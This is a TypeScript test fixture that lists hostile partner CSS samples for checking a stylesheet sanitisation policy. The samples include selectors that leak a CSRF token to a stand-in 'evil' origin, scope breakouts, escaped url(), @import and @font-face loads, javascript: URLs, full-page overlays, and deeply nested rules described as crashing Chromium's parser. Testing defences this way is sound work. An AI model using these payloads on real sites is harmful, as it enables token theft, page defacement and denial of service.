/**
 * Partner CSS built to escape the nav root, read the host page or load from another origin: the
 * attacks the policy is written against, each as the text a partner would publish as `css.css` or
 * `cssHeader.css`. `evil` is an origin the page must never send a request to. Host element ids
 * (`#host-csrf`, `#host-price`, `#host-banner`) are the ones the browser tests put on the page.
 */
export interface PartnerCssAttack {
  name: string;
  css: string;
}

const PAINT = 'background: rgb(255, 0, 0) !important; color: rgb(255, 0, 0) !important';

export function partnerCssAttacks(evil: string): PartnerCssAttack[] {
  const host = evil.replace(/^https?:\/\//, '');
  const escapedSlashes = `\\2f\\2f ${host}`;
  return [
    { name: 'stray } closes the scope', css: `.unav-root .x { color: red; } } body, #host-banner { ${PAINT}; display: none !important; }` },
    { name: 'two stray }', css: `.x{color:red}}} body { ${PAINT} } #host-banner { display: none !important }` },
    { name: 'stray { swallows', css: `.x { color: red; { } body { ${PAINT} }` },
    { name: 'breakout then comment', css: `/* } */ } body { ${PAINT} } /* {` },
    { name: 'CSRF token by attribute selector, sibling of the root', css: `#host-csrf[value^="a"] ~ * :scope, #host-csrf[value^="s"] ~ :scope { background-image: image-set("${evil}/leak?s" 1x) } input[value^="s"] ~ * :scope { background-image: u\\72l(${evil}/leak2?s) }` },
    { name: 'CSRF token through :has() on the page', css: `body:has(#host-csrf[value^="s"]) :scope { background-image: image-set("${evil}/leak3?s" 1x) } :root:has(#host-csrf[value^="s"]) & { background-image: -webkit-image-set("${evil}/leak4?s" 1x) }` },
    { name: 'CSRF token through :is() and :has(~)', css: `.unav-root :is(body:has(#host-csrf[value^="s"]) *) { background-image: image-set("${evil}/leak5?s" 1x) } :scope:has(~ main #host-csrf[value^="s"]) { background-image: image-set("${evil}/leak6?s" 1x) } :scope:not(body:has(#host-csrf[value^="x"]) *) { background-image: image-set("${evil}/leak7?s" 1x) }` },
    { name: 'host elements through :root, html, body, ~ and +', css: `:root, html, body, main, #host-banner { ${PAINT}; display: none !important } body #host-price, #main ~ *, #host-banner + *, * + #host-banner, :scope ~ main, :scope + * { ${PAINT}; visibility: hidden !important }` },
    { name: 'url escaped as u\\72l', css: `:scope { background-image: u\\72l(${evil}/esc1) } .unav-root .a { background: U\\52L("${evil}/esc2") }` },
    { name: 'escaped slashes in url', css: `:scope { background-image: url(${escapedSlashes}/esc3) } :scope::after { content: ""; background-image: url("${escapedSlashes}/esc4") }` },
    { name: 'image-set and -webkit-image-set strings', css: `:scope { background-image: image-set("${evil}/set1" 1x) } :scope::before { content: ""; background-image: -webkit-image-set("${evil}/set2" 1x, url(${evil}/set3) 2x) }` },
    { name: 'cross-fade of urls', css: `:scope { background-image: cross-fade(url(${evil}/fade1), url(/x.png) 50%) } :scope::after { content: ""; background-image: -webkit-cross-fade(url(${evil}/fade2), url(/y.png), 50%) }` },
    { name: 'src() and image()', css: `:scope { background-image: image("${evil}/img1") } :scope::before { content: ""; background-image: src("${evil}/src1") }` },
    { name: '@font-face replaces a host font', css: `@font-face { font-family: HostPriceFont; src: url(${evil}/font1.woff2), local("DejaVu Serif"); unicode-range: U+0030-0039; } @font-face { font-family: "Noto Sans"; src: local("DejaVu Serif") }` },
    { name: '@font-face nested in @media and @supports', css: `@media screen { @supports (display: grid) { @font-face { font-family: HostPriceFont; src: url(${evil}/font2.woff2) } .unav-root .x { color: red } } }` },
    { name: 'escaped @import and @font-face', css: `@\\69mport url(${evil}/import1.css); @IMPORT "${evil}/import2.css"; @f\\6fnt-face { font-family: HostPriceFont; src: url(${evil}/font3.woff2) } .unav-root .x { color: red }` },
    { name: '@import first', css: `@import url(${evil}/import3.css); .unav-root .x { color: red }` },
    { name: 'custom property carries the url', css: `:scope { --u: url(${evil}/var1); background-image: var(--u) } :scope::after { content: ""; --s: "${evil}/var2"; background-image: image-set(var(--s) 1x) }` },
    { name: 'escape hidden in a custom property', css: `:scope { --u: u\\72l(${evil}/var3); background-image: var(--u) }` },
    { name: 'url split by var()', css: `:scope { --a: u; background-image: var(--a)rl(${evil}/var4) }` },
    { name: 'comments inside tokens', css: `:scope { background-image: url(/**/${evil}/cm1); background: ur/**/l(${evil}/cm2) } @im/**/port url(${evil}/cm3.css);` },
    { name: 'upper and mixed case', css: `:SCOPE { BACKGROUND-IMAGE: URL(${evil}/case1) } :scope::after { Content: ""; Position: FIXED; Inset: 0; Z-Index: 2147483647; Background: WHITE }` },
    { name: 'whitespace and newlines in url()', css: `:scope { background-image: url(\n   ${evil}/ws1   \n) } :scope::before { content: ""; background-image: url(  \t"${evil}/ws2"\n ) }` },
    { name: 'unterminated url at the end', css: `.unav-root .x { color: red } :scope { background-image: url(${evil}/eof1` },
    { name: 'unterminated string at the end', css: `:scope { background-image: image-set("${evil}/eof2` },
    { name: 'bad string and bad url', css: `:scope { content: "a\n; background-image: url(${evil}/bad1) } :scope { background: url(${evil}/bad 2) }` },
    { name: '@scope, @layer and other at-rules inside partner CSS', css: `@scope (body) { :scope { ${PAINT} } #host-banner { display: none } } @layer x { body { ${PAINT} } } @keyframes k { from { color: red } } @property --p { syntax: "<color>"; inherits: true; initial-value: red } @counter-style c { system: cyclic; symbols: "x" } @namespace svg url(http://www.w3.org/2000/svg); @page { margin: 0 } @font-feature-values Font { @styleset { a: 1 } } @starting-style { body { ${PAINT} } } @foo bar { body { ${PAINT} } }` },
    { name: 'legacy script hooks and javascript: URLs', css: `:scope { behavior: url(${evil}/x.htc); -moz-binding: url(${evil}/x.xml#x); width: expression(alert(1)); background-image: url("javascript:alert(1)") } :scope::after { content: ""; background-image: url(${evil}/js?javascript:) }` },
    { name: 'element() and paint()', css: `:scope { background-image: element(#host-banner) } :scope::before { content: ""; background-image: paint(worklet) }` },
    { name: 'fixed overlay from the root', css: `:scope::before { content: ""; position: fixed; inset: 0; z-index: 2147483647; background: white }` },
    { name: 'sticky root with an overlay', css: `:scope { position: sticky; top: 0; z-index: 2147483647 } :scope::after { content: ""; position: absolute; top: 0; left: 0; right: 0; height: 100vh; background: white }` },
    { name: 'absolute box sized in viewport units', css: `:scope::before { content: ""; position: absolute; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; background: white } :scope::after { content: ""; position: absolute; top: 0; left: 0; width: 100dvw; height: 100svh; min-height: 100lvh; z-index: 2147483647; background: white }` },
    { name: 'absolute box in container units', css: `:scope::before { content: ""; position: absolute; top: 0; left: 0; width: 100cqw; height: 100cqh; z-index: 2147483647; background: white }` },
    { name: 'the root taken out of the flow, inset 0', css: `:scope { position: absolute !important; inset: 0; z-index: 2147483647; background: white } :scope::after { content: ""; position: absolute; inset: 0; z-index: 2147483647; background: white }` },
    { name: 'position through var()', css: `:scope::before { --p: fixed; content: ""; position: var(--p); inset: 0; z-index: 2147483647; background: white }` },
    { name: 'overlay sized through calc() of viewport units', css: `:scope::before { content: ""; position: absolute; top: 0; left: 0; width: calc(1px + 100vmax); height: calc(100vmin * 2); z-index: 2147483647; background: white }` },
    { name: 'url() of a non-image data URL', css: `:scope { background-image: url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${evil}/svg1'/></svg>") }` },
    { name: 'protocol-relative and backslash URLs', css: `:scope { background-image: url(//${host}/pr1) } :scope::after { content: ""; background-image: url("/\\\\${host}/pr2") } :scope::before { content: ""; background-image: url("/\t/${host}/pr3") }` },
    { name: 'deep nesting', css: `${'@media screen { '.repeat(30)}@font-face { font-family: HostPriceFont; src: url(${evil}/deep.woff2) } .unav-root .x { color: red }${' }'.repeat(30)}` },
    // Chromium's CSS parser crashed the tab on each of these before the bound (boundCssNesting).
    { name: 'nested :is() deep enough to crash the parser', css: `.unav-root .x${':is('.repeat(16_000)}.y${')'.repeat(16_000)} { background: url(${evil}/isdeep) } body { ${PAINT} }` },
    { name: 'nested rules deep enough to crash the parser', css: `${'.a{'.repeat(20_000)}background: url(${evil}/rulesdeep)${'}'.repeat(20_000)} body { ${PAINT} }` },
    { name: 'nested style rules reaching out', css: `.unav-root .x { body:has(#host-csrf[value^="s"]) & { background: url(${evil}/nest1) } & ~ #host-banner { display: none } }` },
  ];
}
